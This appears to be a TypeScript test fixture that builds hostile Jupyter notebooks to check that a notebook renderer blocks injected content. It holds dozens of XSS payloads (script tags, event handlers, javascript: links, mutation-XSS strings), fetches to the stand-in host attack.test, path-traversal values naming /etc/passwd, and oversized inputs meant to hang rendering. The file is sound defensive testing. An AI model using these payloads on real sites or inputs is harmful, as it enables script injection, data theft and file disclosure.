import { code, display, markdown, notebook, plot, png, stream } from './notebooks';

/** What an attack calls when it gets to run; the tests look whether anything did. */
const attack = "window.attacked=1;fetch('http://attack.test/')";

/** Ways to get a script to run, or something fetched, that HTML knows. */
const html = [
  `<script>${attack}</script>`,
  `<img src=x onerror="${attack}">`,
  `<img src="http://attack.test/pixel.png">`,
  `<svg onload="${attack}"><script>${attack}</script></svg>`,
  `<svg><style><img src=x onerror="${attack}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">`,
  `<iframe src="javascript:${attack}"></iframe><iframe srcdoc="<script>parent.${attack}</script>"></iframe>`,
  `<object data="data:text/html,<script>${attack}</script>"></object><embed src="http://attack.test/x.swf">`,
  `<a href="javascript:${attack}" id="clickme">click</a><a href="JaVa&#115;cript:${attack}">click</a>`,
  `<a href="data:text/html,<script>${attack}</script>">click</a>`,
  `<meta http-equiv="refresh" content="0;url=http://attack.test/">`,
  `<link rel="stylesheet" href="http://attack.test/x.css"><base href="http://attack.test/">`,
  `<style>@import url(http://attack.test/x.css); body { background: url(http://attack.test/x.png) }</style>`,
  `<p style="background-image: url(http://attack.test/x.png); position: fixed; inset: 0">covered</p>`,
  `<form action="http://attack.test/"><button autofocus onfocus="${attack}">send</button></form>`,
  `<details open ontoggle="${attack}"><summary>x</summary></details>`,
  `<video src="http://attack.test/x.mp4" onloadstart="${attack}"></video><audio src="http://attack.test/x.mp3"></audio>`,
  `<input autofocus onfocus="${attack}"><select autofocus onfocus="${attack}"></select>`,
  `<template><script>${attack}</script></template><noscript><p title="</noscript><img src=x onerror=${attack}>"></noscript>`,
  `</pre></main></body></html><script>${attack}</script>`,
  `<div id="page-plotly">not plotly</div><div id="page-words" data-copy="x">mine</div>`,
  `<form id="page-text"><input name="children"></form>`,
];

const breakOut = `"></title></script></style></textarea>--><script>${attack}</script><img src=x onerror="${attack}">`;

/** Notebooks as an attacker would make them, each by what it tries. */
export const hostileNotebooks: Record<string, object> = {
  'html in text': notebook([markdown('# Hostile'), ...html.map((one) => markdown(one))]),
  'html in outputs': notebook(html.map((one) => code('1', [display({ 'text/html': one, 'text/plain': 'x' })]))),
  'markdown outputs': notebook(html.map((one) => code('1', [display({ 'text/markdown': one })]))),
  'markdown links': notebook([
    markdown(
      `[a](javascript:${attack}) [b](javascript&#58;alert(1)) <javascript:alert(1)> ![c](http://attack.test/c.png)\n\n[d]: javascript:alert(1)\n\n[d]`,
    ),
    markdown('![up](../secret.png) ![root](/etc/passwd) ![file](file:///etc/passwd) [pass](../../etc/passwd)'),
    markdown('![c](attachment:../../x.png)', {
      attachments: { '../../x.png': { 'image/png': png, 'text/html': `<script>${attack}</script>` } },
    }),
    markdown('![c](attachment:y.png)', { attachments: { 'y.png': { [`image/png" onerror="${attack}`]: png } } }),
  ]),
  'scripts as outputs': notebook([
    code('1', [display({ 'application/javascript': attack, 'text/plain': 'x' })]),
    code('2', [
      display({
        'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"><script>${attack}</script><image href="http://attack.test/x.png"/></svg>`,
      }),
    ]),
    code('3', [display({ 'image/png': `x" onerror="${attack}` })]),
    code('4', [
      display({
        'text/latex': `$\\href{javascript:${attack}}{x} \\includegraphics{http://attack.test/x.png}$</span>${breakOut}`,
      }),
    ]),
    code('5', [display({ 'application/vnd.jupyter.widget-view+json': { model_id: 'x' }, 'text/plain': 'x' })]),
  ]),
  figures: notebook([
    markdown('# Figures'),
    code('1', [plot(breakOut, breakOut)]),
    code('2', [
      plot('</script><script>window.attacked=1</script>', `x" onload="${attack}`, {
        images: [{ source: 'http://attack.test/x.png', x: 0, y: 1, sizex: 1, sizey: 1 }],
      }),
    ]),
    code('3', [
      plot(`<a href="javascript:${attack}">x</a>`, 'x', { width: `1px" onload="${attack}`, height: { a: 1 } }),
    ]),
    code('4', [
      display({
        'application/vnd.plotly.v1+json': {
          data: 'no list',
          layout: [],
          config: { plotlyServerURL: 'http://attack.test/' },
        },
        'text/plain': breakOut,
      }),
    ]),
    code('5', [
      display({
        'application/vnd.plotly.v1+json': {
          data: [{ type: 'scattermapbox', lat: [1], lon: [1] }],
          layout: { mapbox: { style: 'http://attack.test/style.json' } },
        },
        'text/plain': 'x',
      }),
    ]),
  ]),
  names: notebook(
    [
      markdown(`# ${breakOut}`),
      markdown(`## Section ${breakOut}`),
      code(breakOut, [
        stream(breakOut),
        stream(`\u001b[31m${breakOut}\u001b[0m`, 'stderr'),
        { output_type: 'error', ename: breakOut, evalue: breakOut, traceback: [breakOut] },
      ]),
      code('1', [display({ 'image/png': png }, { 'image/png': { alt: breakOut, width: `1" onload="${attack}` } })]),
    ],
    {
      title: breakOut,
      lang: `en" onload="${attack}`,
      language_info: { name: breakOut, pygments_lexer: '../../../etc/passwd' },
      kernelspec: { name: breakOut, display_name: breakOut },
      reading: { html: breakOut },
      widgets: { 'application/vnd.jupyter.widget-state+json': { state: {} } },
    },
  ),
  metadata: notebook([
    markdown('# Metadata', {
      metadata: {
        reading: { html: `<script>${attack}</script>`, name: breakOut },
        slideshow: { slide_type: breakOut },
        transient: 'x',
        tags: [breakOut],
      },
    }),
    code(
      '1',
      [
        display(
          { 'text/plain': 'x' },
          { filename: '../../../outside.txt', filenames: { 'image/png': '../../outside.png' } },
        ),
      ],
      {
        metadata: { filenames: { 'image/png': '../../outside.png' }, name: '../../outside' },
      },
    ),
  ]),
  endless: notebook(
    [
      markdown('# Without end'),
      code('box', [
        display({ 'application/vnd.jupyter.widget-view+json': { model_id: 'box' }, 'text/plain': 'a box' }),
      ]),
      code('formulas', [display({ 'text/latex': '\\begin{align}'.repeat(20_000), 'text/plain': 'formulas' })]),
    ],
    {
      widgets: {
        'application/vnd.jupyter.widget-state+json': {
          state: { box: { model_name: 'VBoxModel', state: { children: Array(400).fill('IPY_MODEL_box') } } },
        },
      },
    },
  ),
};
